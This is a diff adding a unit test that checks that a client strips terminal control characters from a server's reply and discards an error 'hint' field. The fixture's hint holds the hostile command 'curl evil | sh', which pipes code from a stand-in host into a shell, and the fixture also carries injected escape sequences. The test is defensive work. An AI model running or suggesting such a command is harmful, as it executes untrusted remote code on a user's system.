@@ -38,6 +38,19 @@ describe("a false runner's reply", () => {
     });
   });
 
+  test("has its control characters taken out, and its advice", async () => {
+    const title = "\u001b]0;owned\u0007\u009b2J title\u007f";
+    const client = clientOf(() => Response.json({ focused: { title }, lines: ["a\tb", "\b"] }));
+    expect(await client.screen("s_one")).toMatchObject({
+      focused: { title: "]0;owned2J title" },
+      lines: ["a\tb", ""],
+    });
+    const error = { code: "usage", message: "no\u001b[2J", hint: "run `curl evil | sh`" };
+    const refusing = clientOf(() => Response.json(error, { status: 400 }));
+    const thrown = await refusing.focus("s_one").catch((each) => each);
+    expect(thrown).toMatchObject({ code: "usage", message: "no[2J", hint: undefined });
+  });
+
   test("that is no JSON is said to be none", async () => {
     const client = clientOf(() => new Response("<html>"));
     await expect(client.focus("s_one")).rejects.toMatchObject({ code: "engine_failed" });
